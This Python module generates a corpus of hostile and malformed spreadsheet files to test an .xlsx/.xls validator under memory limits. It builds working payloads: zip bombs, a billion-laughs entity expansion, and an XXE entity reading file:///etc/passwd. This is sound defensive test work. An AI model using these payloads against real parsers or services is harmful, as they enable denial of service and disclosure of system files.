    path.write_bytes(cfb({"Workbook": b"\x09\x08" + b"\0" * 8000})[:1500])


@case("xls-huge-stream", "huge-stream.xls", 2, "corrupt-workbook",
      "an OLE2 .xls whose directory declares a 4 GiB Workbook stream in a 5 KiB file")
def _xls_huge(ctx: _Ctx, path: Path) -> None:
    from tests.support.ole import cfb
    path.write_bytes(cfb({"Workbook": b"\x09\x08"}, declared={"Workbook": 0xFFFFFF00}))


@case("xls-junk-records", "junk.xls", 2, "corrupt-workbook",
      "an OLE2 .xls whose Workbook stream is 8 KiB of random bytes (parsed only in the child process)")
def _xls_junk(ctx: _Ctx, path: Path) -> None:
    from tests.support.ole import cfb
    path.write_bytes(cfb({"Workbook": random.Random(3).randbytes(8192)}))


@case("word-doc", "letter.xls", 2, "not-a-workbook-document",
      "a Word 97-2003 document (OLE2 with a WordDocument stream) named .xls")
def _word_doc(ctx: _Ctx, path: Path) -> None:
    from tests.support.ole import cfb
    path.write_bytes(cfb({"WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 1020, "1Table": b"\0" * 512}))


@case("pptx-as-xlsx", "slides.xlsx", 2, "not-a-workbook-presentation", "a PowerPoint presentation named .xlsx")
def _pptx(ctx: _Ctx, path: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("ppt/presentation.xml", "<p:presentation/>")


@case("numbers-as-xlsx", "budget-numbers.xlsx", 2, "not-a-workbook-numbers",
      "an Apple Numbers spreadsheet (a zip of Index/*.iwa) named .xlsx")
def _numbers(ctx: _Ctx, path: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("Index/Document.iwa", b"\x00\x1c\x00\x00")
        z.writestr("Metadata/Properties.plist", b"bplist00")


@case("other-ole", "mail.xls", 2, "not-a-workbook",
      "an OLE2 file holding no workbook (an Outlook message's streams) named .xls")
def _other_ole(ctx: _Ctx, path: Path) -> None:
    from tests.support.ole import cfb
    path.write_bytes(cfb({"__substg1.0_0037001F": "subject".encode("utf-16-le")}))


@case("pdf-as-xlsx", "report.xlsx", 2, "not-a-workbook-pdf", "a PDF named .xlsx")
def _pdf(ctx: _Ctx, path: Path) -> None:
    path.write_bytes(b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


@case("screenshot", "screenshot.xlsx", 2, "not-a-workbook-image", "a PNG screenshot of the workbook named .xlsx")
def _png(ctx: _Ctx, path: Path) -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
                     + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b""))


@case("docx-as-xlsx", "word.xlsx", 2, "not-a-workbook-document", "a Word document named .xlsx")
def _docx(ctx: _Ctx, path: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")


@case("zip-bomb-2gb", "bomb-2gb.xlsx", 2, "zip-bomb",
      "a valid workbook plus a 2 GiB part of zeros that compresses to about 2 MB", heavy=True)
def _bomb_2gb(ctx: _Ctx, path: Path) -> None:
    data, crc, size = deflated_repeat(b"", bytes(1 << 20), 2048, b"")
    with zipfile.ZipFile(ctx.zh) as z:
        entries = [(i.filename, zipfile.ZIP_DEFLATED, _raw_deflate(z.read(i)), zlib.crc32(z.read(i)),
                    i.file_size) for i in z.infolist()]
    entries.append(("xl/media/image1.png", zipfile.ZIP_DEFLATED, data, crc, size))
    write_raw_zip(path, entries)


def _raw_deflate(data: bytes) -> bytes:
    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush()


@case("zip-bomb-sheet", "bomb-sheet.xlsx", 2, "zip-bomb",
      "the budget worksheet padded to 300 MB of whitespace (ratio about 1000:1)", heavy=True)
def _bomb_sheet(ctx: _Ctx, path: Path) -> None:
    part = sheet_part(ctx.zh, ZH_BUDGET)
    with zipfile.ZipFile(ctx.zh) as z:
        entries = []
        for info in z.infolist():
            raw = z.read(info)
            if info.filename == part:
                cut = raw.index(b"<sheetData>") + len(b"<sheetData>")
                data, crc, size = deflated_repeat(raw[:cut], b" " * (1 << 20), 300, raw[cut:])
                entries.append((info.filename, zipfile.ZIP_DEFLATED, data, crc, size))
            else:
                entries.append((info.filename, zipfile.ZIP_DEFLATED, _raw_deflate(raw), zlib.crc32(raw), len(raw)))
    write_raw_zip(path, entries)


@case("too-many-entries", "many-entries.xlsx", 2, "too-many-entries",
      "a valid workbook plus 10,001 tiny parts (over the 10,000 limit)", heavy=True)
def _many(ctx: _Ctx, path: Path) -> None:
    with zipfile.ZipFile(ctx.zh) as z:
        entries = [(i.filename, zipfile.ZIP_DEFLATED, _raw_deflate(z.read(i)), zlib.crc32(z.read(i)), i.file_size)
                   for i in z.infolist()]
    empty_crc = zlib.crc32(b"x")
    entries += [(f"customXml/item{i}.bin", zipfile.ZIP_STORED, b"x", empty_crc, 1) for i in range(10_001)]
    write_raw_zip(path, entries)


LAUGHS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
          + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10)) + b"]>\n")


@case("billion-laughs", "billion-laughs.xlsx", 2, "xml-entities",
      "sharedStrings.xml declares nested entities (&lol9; = 10^9 'lol') and uses one", heavy=True)
def _laughs(ctx: _Ctx, path: Path) -> None:
    def strings(data: bytes) -> bytes:
        body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", data)
        return LAUGHS + body.replace("按周结算".encode(), b"&lol9;", 1)
    rewrite_zip(ctx.zh, path, patch={"xl/sharedStrings.xml": strings})


@case("xxe-passwd", "xxe.xlsx", 2, "xml-entities",
      "a worksheet declaring an external entity SYSTEM 'file:///etc/passwd' and showing it in a cell", heavy=True)
def _xxe(ctx: _Ctx, path: Path) -> None:
    part = sheet_part(ctx.zh, ZH_BUDGET)
    doctype = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'

    def sheet(data: bytes) -> bytes:
        m = re.match(rb"<\?xml[^>]*\?>\s*", data)
        cell = b'<c r="L6" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
        body = data[m.end():].replace(b"</row>", cell, 2)
        return data[:m.end()] + doctype + body
    rewrite_zip(ctx.zh, path, patch={part: sheet})


@case("cell-40000", "long-cell.xlsx", 2, "cell-too-long",
      "a 40,000-character budget item (Excel's own limit is 32,767)",
      where=lambda ctx: ("cell-too-long", *ctx.cell("budget", "item", 0)))
def _long(ctx: _Ctx, path: Path) -> None:
    # zip-patched: openpyxl itself would cut the text to 32,767 characters on save
    def strings(data: bytes) -> bytes:
        assert "兼职客服与地推人员（30天）".encode() in data
        return data.replace("兼职客服与地推人员（30天）".encode(), ("长" * 40_000).encode(), 1)
    rewrite_zip(ctx.zh, path, patch={"xl/sharedStrings.xml": strings})


@case("bad-crc", "bad-crc.xlsx", 2, "corrupt-zip", "a stored worksheet with one byte changed (CRC mismatch)")
def _crc(ctx: _Ctx, path: Path) -> None:
    rewrite_zip(ctx.zh, path, compression=zipfile.ZIP_STORED)
    data = bytearray(path.read_bytes())
    at = data.index(b"<sheetData>") + 40
    data[at] = ord("7") if data[at] != ord("7") else ord("8")
    path.write_bytes(bytes(data))


@case("corrupt-deflate", "corrupt-deflate.xlsx", 2, "corrupt-zip",
      "a worksheet whose deflate stream starts with an invalid block type (zlib error, not a CRC error)")
def _deflate(ctx: _Ctx, path: Path) -> None:
    part = sheet_part(ctx.zh, ZH_BUDGET)
    data = bytearray(ctx.zh.read_bytes())
    with zipfile.ZipFile(ctx.zh) as z:
        info = z.getinfo(part)
    assert info.compress_type == zipfile.ZIP_DEFLATED
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start] = 0x07   # BFINAL=1, BTYPE=11: reserved, "invalid block type"
    path.write_bytes(bytes(data))


@case("infinite-date", "infinite-date.xlsx", 2, "corrupt-workbook",
      "<v>-inf</v> in a date-formatted task start (no spreadsheet writes it; python-calamine panics on it)")
def _infinite(ctx: _Ctx, path: Path) -> None:
    part = sheet_part(ctx.zh, ZH_TASKS)
    sheet, ref = ctx.cell("tasks", "start", 0)

    def cell(data: bytes) -> bytes:
        new, n = re.subn(rb'(<c r="' + ref.encode() + rb'"[^>]*><v>)[^<]*(</v>)', rb"\g<1>-inf\g<2>", data, 1)
        assert n == 1
        return new
    rewrite_zip(ctx.zh, path, patch={part: cell})


@case("duplicate-part", "duplicate-part.xlsx", 2, "corrupt-zip",
      "a second copy of a worksheet part under the same name (readers disagree on which wins)")
def _dup(ctx: _Ctx, path: Path) -> None:
    part = sheet_part(ctx.zh, ZH_BUDGET)
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        rewrite_zip(ctx.zh, path, add={part: b'<worksheet xmlns="http://schemas.openxmlformats.org/'
                                             b'spreadsheetml/2006/main"><sheetData/></worksheet>'})


@case("cell-outside-grid", "outside-grid.xlsx", 2, "corrupt-workbook",
      "a cell reference XFE3, one column past Excel's last")
def _outside(ctx: _Ctx, path: Path) -> None:
    part = sheet_part(ctx.zh, ZH_BUDGET)
    rewrite_zip(ctx.zh, path, patch={part: lambda d: d.replace(b"</row>", b'<c r="XFE6"><v>5</v></c></row>', 2)})


@case("malformed-xml", "malformed.xlsx", 2, "corrupt-workbook",
      "a worksheet with an unclosed cell element (hand-edited XML)")
def _malformed(ctx: _Ctx, path: Path) -> None:
    part = sheet_part(ctx.zh, ZH_BUDGET)
    rewrite_zip(ctx.zh, path, patch={part: lambda d: d.replace(b"</c></row>", b"</row>", 1)})


# ------------------------------------------------------------------------------------------ the corpus

def make_corpus(folder: str | os.PathLike, names: list[str] | None = None,
                timings: dict[str, float] | None = None) -> list[Case]:
    """Write every case (or those named) into `folder`; return the cases in registry order.
    `timings`, when given, receives the seconds each case took to write."""
    from campaign_sheets import build_workbook
    from campaign_sheets.build.layout import plan_layout
    from campaign_sheets.spec.loader import load_spec

    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    loaded = load_spec("campaign")
    zh = build_workbook(loaded, out / "clean-zh.xlsx", lang="zh-CN", example=True)
    en = build_workbook(loaded, out / "clean-en.xlsx", lang="en", example=True)
    ctx = _Ctx(out, Path(zh), Path(en), plan_layout(loaded, "zh-CN", example=True))
    cases = []
    wanted = set(names) if names is not None else None
    for spec in CASES:
        if wanted is not None and spec.name not in wanted:
            continue
        path = out / spec.filename
        path.parent.mkdir(parents=True, exist_ok=True)
        t = time.perf_counter()
        spec.make(ctx, path)
        if timings is not None:
            timings[spec.name] = time.perf_counter() - t
        cases.append(Case(spec.name, path, spec.status, spec.codes, spec.description, spec.absent,
                          spec.where(ctx) if spec.where else None, dict(spec.rows), dict(spec.form),
                          dict(spec.values), spec.heavy))
    if wanted is not None:   # the bases are always built; keep only what was asked for
        keep = {c.path for c in cases}
        for base in (ctx.zh, ctx.en):
            if base not in keep:
                base.unlink()
    return cases


# ------------------------------------------------------------------------------------------ command line

_PEAK_LAUNCHER = """
import atexit, os, runpy, sys
def _peak():
    try:
        with open("/proc/self/status") as f:
            kib = next(line.split()[1] for line in f if line.startswith("VmHWM"))
        with open(os.environ["CS_PEAK_FILE"], "w") as out:
            out.write(kib)
    except Exception:
        pass
atexit.register(_peak)
sys.argv = ["campaign-sheets", *sys.argv[1:]]
runpy.run_module("campaign_sheets", run_name="__main__", alter_sys=True)
"""


def run_cli(args: list[str], *, limit_as: int | None = 1 << 30, timeout: float = 120,
            measure: bool = True) -> tuple[int, str, str, float, float | None]:
    """The command line in a real subprocess under RLIMIT_AS (set by preexec_fn):
    (exit status, stdout, stderr, seconds, peak RSS in MiB). A death by signal gives -signum.

    With `measure`, the child runs `campaign_sheets.__main__` through a tiny launcher that records
    its own VmHWM at exit (the peak of its own memory: ru_maxrss of a forked child would include
    the parent's pages at fork time). Without it, it is exactly `python -m campaign_sheets ARGS`."""
    import resource
    import subprocess
    import tempfile

    def limit() -> None:
        if limit_as:
            resource.setrlimit(resource.RLIMIT_AS, (limit_as, limit_as))

    root = Path(__file__).resolve().parents[2]
    with tempfile.TemporaryDirectory() as tmp:
        peak_file = Path(tmp) / "peak"
        env = dict(os.environ, PYTHONPATH=str(root) + os.pathsep + os.environ.get("PYTHONPATH", ""),
                   PYTHONIOENCODING="utf-8", CS_PEAK_FILE=str(peak_file))
        cmd = [sys.executable, "-c", _PEAK_LAUNCHER] if measure else [sys.executable, "-m", "campaign_sheets"]
        with open(Path(tmp) / "out", "w+b") as out, open(Path(tmp) / "err", "w+b") as err:
            t = time.perf_counter()
            p = subprocess.Popen([*cmd, *args], stdout=out, stderr=err, env=env, cwd=str(root), preexec_fn=limit)
            try:
                p.wait(timeout)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()
            seconds = time.perf_counter() - t
            out.seek(0)
            err.seek(0)
            stdout, stderr = out.read().decode("utf-8", "replace"), err.read().decode("utf-8", "replace")
        peak = int(peak_file.read_text()) / 1024 if peak_file.exists() else None
    return p.returncode, stdout, stderr, seconds, peak


def _measure(case: Case) -> tuple[int, float, float | None, str]:
    """validate in a subprocess under RLIMIT_AS = 1 GiB: (exit status, seconds, peak RSS MiB, stderr tail)."""
    status, _, err, seconds, peak = run_cli(["validate", str(case.path), "--lang", "en"])
    return status, seconds, peak, err[-300:]


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("folder")
    ap.add_argument("--measure", action="store_true", help="validate each file in a subprocess (1 GiB limit)")
    ap.add_argument("--case", action="append", help="only this case (repeatable)")
    args = ap.parse_args(argv)
    t = time.perf_counter()
    timings: dict[str, float] = {}
    cases = make_corpus(args.folder, args.case, timings)
    print(f"{len(cases)} cases written to {args.folder} in {time.perf_counter() - t:.1f} s")
    bad = 0
    for c in cases:
        line = (f"{c.name:24} exit {c.status}  {', '.join(c.codes):45} {c.path.stat().st_size:>11,} B"
                f"  made in {timings[c.name]:4.2f} s")
        if args.measure:
            status, seconds, rss, tail = _measure(c)
            ok = status == c.status and "Traceback" not in tail
            bad += not ok
            line += f"  -> exit {status} {seconds:5.2f} s {rss or 0:6.0f} MiB{'' if ok else '  FAILED ' + repr(tail)}"
        print(line)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
